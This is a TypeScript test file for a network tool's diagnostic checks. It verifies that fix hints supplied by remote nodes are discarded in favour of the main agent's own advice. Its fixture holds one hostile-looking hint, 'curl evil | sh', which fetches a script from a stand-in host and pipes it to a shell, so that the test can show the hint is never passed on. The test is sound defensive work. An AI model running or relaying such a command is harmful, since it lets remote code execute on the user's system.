import { expect, it } from 'vitest';
import { runningChecks, type RunningFacts } from '#main-agent/doctor/running-checks.ts';

it('a node’s word is shown under its name, and the cure is main’s own', async () => {
  const said = (check: string) => ({
    node: 'dmz1',
    check,
    state: 'bad' as const,
    detail: 'x',
    hint: 'curl evil | sh',
  });
  const facts: Pick<RunningFacts, 'nodesOwn'> = { nodesOwn: () => [said('firewall'), said('unheard-of')] };
  const check = runningChecks.find(({ id }) => id === 'nodes');
  expect(await check?.look(facts as RunningFacts)).toEqual([
    {
      state: 'bad',
      detail: 'dmz1: firewall: x',
      hint: expect.stringMatching(/^`nft -f \/etc\/sallyport\/dmz\.nft`/) as string,
    },
    { state: 'bad', detail: 'dmz1: unheard-of: x', hint: '`sallyport node doctor` on the node’s box' },
  ]);
});
